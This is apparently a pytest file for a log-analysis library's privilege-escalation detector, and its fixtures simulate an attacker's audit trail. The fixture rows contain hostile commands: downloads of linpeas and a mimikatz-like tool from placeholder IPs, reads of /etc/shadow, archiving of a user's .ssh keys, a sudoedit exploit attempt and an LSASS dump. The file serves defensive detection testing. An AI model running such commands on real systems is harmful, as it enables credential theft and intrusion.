"""Attempts, root commands, downloads and reads of an actor."""

from pyspark.sql import functions as F

from tidelog.logframe import LogFrame
from tidelog.operators import escalation

FIELDS = ("event_id", "username", "process_name", "command", "uid", "euid", "auid", "pid", "targetimage", "targetfilename")
COMMANDS = [
    ("sudo -l", "1001"),
    ("/usr/bin/sudo  --version", "1001"),
    ("wget http://203.0.113.9/linpeas.sh", "1001"),
    ("curl -o /tmp/x https://203.0.113.9/kit.tar.gz?x=1", "1001"),
    ("cat /etc/shadow", "1001"),
    ("grep root /etc/shadow", "1001"),
    ("id", "0"),
    ("sudoedit -s AAAA", "1001"),
    ("sudoedit -s AAAA", "1001"),
    ("sh", "0"),
    ("cat /etc/shadow", "0"),
    ("tar czf /tmp/k.tgz /home/bob/.ssh", "0"),
    ("echo sudo", "1001"),
    ("certutil.exe -urlcache -f http://198.51.100.23:8000/mimidw.exe C:\\Temp\\mimidw.exe", "1001"),
    (None, "0"),
    ("", None),
]


def frame(spark, commands, more=()):
    rows = [(k, "1", "bob", None, c, u, u, "1001", "77", None, None) for k, (c, u) in enumerate(commands)] + list(more)
    return LogFrame(spark.createDataFrame(rows, "pos long, " + ", ".join(f"{f} string" for f in FIELDS)), FIELDS)


def test_attempts_and_the_shell_behind_them(spark):
    log = frame(spark, COMMANDS)
    got = [(r.program, r.pos, r.n, r.is_check) for r in escalation.attempts(log).collect()]
    assert got == [("sudoedit", 7, 2, False), ("sudo", 0, 1, True), ("sudo", 1, 1, True)]
    assert [tuple(r) for r in escalation.root_shell(log).collect()] == [(9, "sh")]
    assert {r.command for r in escalation.root_commands(log).collect()} == {"id", "sh", "cat /etc/shadow", "tar czf /tmp/k.tgz /home/bob/.ssh"}
    nobody = LogFrame(log.df.withColumn("auid", F.lit("4294967295")), FIELDS)
    assert escalation.root_commands(nobody).count() == 0 and escalation.root_shell(nobody).count() == 0


def test_downloads_and_reads(spark):
    log = frame(spark, COMMANDS)
    got = {(r.url, r.kind, r.tool) for r in escalation.downloads(log).collect()}
    assert got == {("http://203.0.113.9/linpeas.sh", "tool", "linpeas"), ("https://203.0.113.9/kit.tar.gz?x=1", "payload", "kit.tar.gz"), ("http://198.51.100.23:8000/mimidw.exe", "tool", "mimidw")}
    assert [(r.path, r.as_root, r.pos) for r in escalation.reads(log).collect()] == [("/etc/shadow", True, 10), ("/home/bob/.ssh", True, 11), ("/etc/shadow", False, 4)]


def test_accesses_and_empty_logs(spark):
    more = [(90, "10", "jdoe", "mimidw.exe", None, None, None, None, "5", "C:\\Windows\\system32\\lsass.exe", None), (91, "11", "jdoe", None, None, None, None, None, "5", None, "C:\\Temp\\lsass.dmp"), (92, "10", None, None, None, None, None, None, None, "C:\\x\\notlsass.exe", None)]
    log = frame(spark, [], more)
    assert {(r.kind, r.source, r.pos) for r in escalation.accesses(log).collect()} == {("process access", "mimidw.exe", 90), ("file created", "c:\\temp\\lsass.dmp", 91)}
    assert {r.part for r in escalation.story(log).collect()} == {"access"}
    bare = LogFrame(log.df.select("pos", "command"), ("command",))
    assert escalation.story(bare).count() == 0 and escalation.story(log.on(log.df.limit(0))).count() == 0
